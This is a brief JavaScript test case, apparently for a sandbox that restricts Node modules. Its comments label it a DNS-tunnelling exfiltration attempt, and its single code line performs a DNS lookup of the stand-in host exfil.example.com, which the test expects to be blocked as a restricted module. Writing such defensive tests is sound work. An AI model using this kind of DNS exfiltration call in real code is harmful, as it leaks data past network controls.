// Attack: exfiltrate through DNS lookups, which often pass where TCP does not.
// Cites: DNS tunnelling (MITRE ATT&CK T1071.004).
// expect: RESTRICTED_MODULE
// details: {"module": "dns"}
return require('dns').promises.lookup('exfil.example.com');
